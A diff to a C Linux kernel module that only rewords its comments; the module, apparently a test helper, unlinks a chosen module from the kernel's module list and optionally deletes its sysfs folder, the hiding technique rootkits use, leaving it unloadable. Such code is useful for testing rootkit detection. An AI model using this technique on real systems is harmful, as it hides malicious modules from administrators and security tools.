@@ -2,9 +2,9 @@
 
 /* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
 /*
- * A module whose init takes a module off the kernel's list and, where it is told
- * to, removes that module's folder from sysfs, as rootkits do with themselves. It
- * can be no more unloaded then.
+ * A module whose init removes a module from the kernel's list and, if kobject_offset is
+ * set, removes that module's folder from sysfs, as rootkits do with themselves. The
+ * module can then not be unloaded.
  */
 #include "module.h"
 
@@ -12,8 +12,8 @@
 
 /* Build sets these. */
 volatile unsigned long list_offset = UNSET;    /* of list in struct module */
-volatile unsigned long kobject_offset = UNSET; /* of mkobj.kobj; the folder stays where it is not set */
-volatile unsigned long target = UNSET;         /* address of the struct module to hide; of this one where it is not set */
+volatile unsigned long kobject_offset = UNSET; /* of mkobj.kobj; if unset, the folder stays */
+volatile unsigned long target = UNSET;         /* address of the struct module to hide; if unset, of this one */
 
 struct list_head {
 	struct list_head *next, *prev;
@@ -34,7 +34,7 @@ int init_module(void)
 	}
 	if (kobject_offset != UNSET)
 		kobject_del(module + kobject_offset);
-	return target == UNSET ? 0 : -19; /* -ENODEV: nothing of the helper stays */
+	return target == UNSET ? 0 : -19; /* -ENODEV: the kernel frees the helper */
 }
 
 void cleanup_module(void)
